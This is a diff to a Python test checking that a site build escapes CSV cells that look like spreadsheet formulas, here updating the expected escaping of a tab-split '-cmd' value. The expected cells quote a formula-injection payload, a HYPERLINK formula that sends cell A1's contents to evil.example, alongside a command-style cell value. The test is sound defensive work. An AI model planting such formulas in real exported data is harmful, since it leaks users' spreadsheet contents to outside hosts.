@@ -375,4 +375,5 @@ def test_csv_cells_that_start_like_a_formula_are_made_inert(tmp_path: Path):
     assert run_build(root).code == 0
     cells = [cell for row in csv.reader(io.StringIO((root / "site" / "flood" / "data" / "claims.csv").read_text(
         encoding="utf-8-sig"), newline="")) for cell in row]
-    assert "'+HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "'\t-cmd" in cells
+    # (the "-cmd" after the tab has its own apostrophe: an import splitting at tabs reads it as a cell, test_attack_32)
+    assert "'+HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "'\t'-cmd" in cells
